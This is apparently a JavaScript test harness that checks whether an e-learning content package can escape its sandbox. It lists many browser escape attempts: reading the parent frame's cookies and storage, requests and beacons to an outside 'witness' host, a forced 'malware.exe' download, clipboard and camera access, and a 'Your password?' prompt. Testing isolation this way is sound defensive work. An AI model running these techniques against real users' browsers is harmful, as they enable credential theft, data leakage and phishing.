// Attacks, each by name; it answers with a text, and "open" at its start would be a way out.
const api = find("API");
api.LMSInitialize("");
const WITNESS = new URLSearchParams(location.search).get("witness");
const OTHER = new URLSearchParams(location.search).get("other");
const PLATFORM = new URLSearchParams(location.search).get("platform");
const caught = async (act) => {
  try { const got = await act(); return got === "error" ? got : "open: " + String(got); } catch (error) { return error.name; }
};
const loaded = (tag, attribute, address) => new Promise((resolve) => {
  const node = document.createElement(tag);
  node.onload = () => resolve("open: loaded");
  node.onerror = () => resolve("error");
  if (tag === "link") node.rel = attribute;
  node[tag === "link" ? "href" : attribute] = address;
  document.body.append(node);
});
const event = (target, good) => new Promise((resolve) => {
  target.addEventListener(good, () => resolve("open: " + good));
  target.addEventListener("error", () => resolve("error"));
});
const attempts = {
  "parent document": () => caught(() => top.document.title),
  "parent cookies": () => caught(() => top.document.cookie),
  "parent storage": () => caught(() => top.localStorage.length),
  "parent database": () => caught(() => top.indexedDB.open("observed-tasks")),
  "parent script": () => caught(() => top.eval("1")),
  "own cookies": async () => document.cookie || "nothing there",
  "cookie for the platform": async () => {
    document.cookie = "tossed=1; domain=localhost; path=/";
    document.cookie = "tossed=1; domain=localhost; path=/; SameSite=None; Secure";
    return document.cookie.includes("tossed") ? "open" : "nothing there";
  },
  "top navigation": () => caught(() => { top.location.href = WITNESS + "/top"; }),
  "popup": async () => (window.open(WITNESS + "/popup") ? "open" : "null"),
  "dialog": async () => (confirm("Your password?") ? "open" : "false"),
  "service worker": () => caught(() => navigator.serviceWorker.register("worker.js")),
  "worker from a file": () => caught(() => event(new Worker("worker.js"), "message")),
  "worker from memory": () => caught(() => event(new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))), "message")),
  "shared worker": () => caught(() => event(new SharedWorker("worker.js"), "message")),
  "fetch of another package": () => caught(() => fetch(OTHER)),
  "blind fetch of another package": () => caught(() => fetch(OTHER, { mode: "no-cors" })),
  "picture of another package": () => loaded("img", "src", OTHER.replace("index.html", "dot.png")),
  "script of another package": () => loaded("script", "src", OTHER.replace("index.html", "other.js")),
  "fetch of the platform": () => caught(() => fetch(PLATFORM + "/healthz", { credentials: "include" })),
  "outside fetch": () => caught(() => fetch(WITNESS + "/fetch", { mode: "no-cors" })),
  "outside request": () => caught(() => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open("GET", WITNESS + "/xhr");
    request.onload = () => resolve("answered");
    request.onerror = () => reject(new TypeError());
    request.send();
  })),
  "outside picture": () => loaded("img", "src", WITNESS + "/img"),
  "outside script": () => loaded("script", "src", WITNESS + "/script"),
  "outside style": () => loaded("link", "stylesheet", WITNESS + "/style"),
  "outside prefetch": () => loaded("link", "prefetch", WITNESS + "/prefetch"),
  "outside socket": () => caught(() => event(new WebSocket(WITNESS.replace("http", "ws") + "/socket"), "open")),
  "outside stream": () => caught(() => event(new EventSource(WITNESS + "/stream"), "open")),
  "outside frame": () => { const frame = document.createElement("iframe"); frame.src = WITNESS + "/frame"; document.body.append(frame); return "tried"; },
  "outside beacon": () => { navigator.sendBeacon(WITNESS + "/beacon", "learner"); return "tried"; },
  "outside ping": () => { const link = document.createElement("a"); link.href = "#x"; link.ping = WITNESS + "/ping"; document.body.append(link); link.click(); return "tried"; },
  "download": () => {
    const link = document.createElement("a");
    link.href = URL.createObjectURL(new Blob(["malware"]));
    link.download = "malware.exe";
    document.body.append(link);
    link.click();
    return "tried";
  },
  "read the clipboard": () => caught(() => navigator.clipboard.readText()),
  "write the clipboard": () => caught(() => navigator.clipboard.writeText("x")),
  "camera": () => caught(() => navigator.mediaDevices.getUserMedia({ video: true })),
  "microphone": () => caught(() => navigator.mediaDevices.getUserMedia({ audio: true })),
  "screen": () => caught(() => navigator.mediaDevices.getDisplayMedia()),
  "place": () => new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve("open"), (error) => resolve("code " + error.code))),
  "passkey": () => caught(() => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16) } })),
  "notifications": () => caught(async () => { const answer = await Notification.requestPermission(); if (answer !== "granted") throw new DOMException("", "Denied"); }),
  "full screen": () => caught(() => document.documentElement.requestFullscreen()),
  "storage of others": async () => { localStorage.setItem("mine", "1"); return Object.keys(localStorage).join(); },
};
function put(place, markup) {
  place.insertAdjacentHTML("beforeend", markup);
}
function form(address) {
  document.body.insertAdjacentHTML("beforeend", `<form method=post action="${address}"><input name=a value=b></form>`);
  document.forms[0].submit();
}
async function attack() {
  const found = {};
  for (const [name, act] of Object.entries(attempts)) {
    found[name] = await Promise.race([act(), new Promise((resolve) => setTimeout(() => resolve("silence"), 1500))]);
  }
  return found;
}
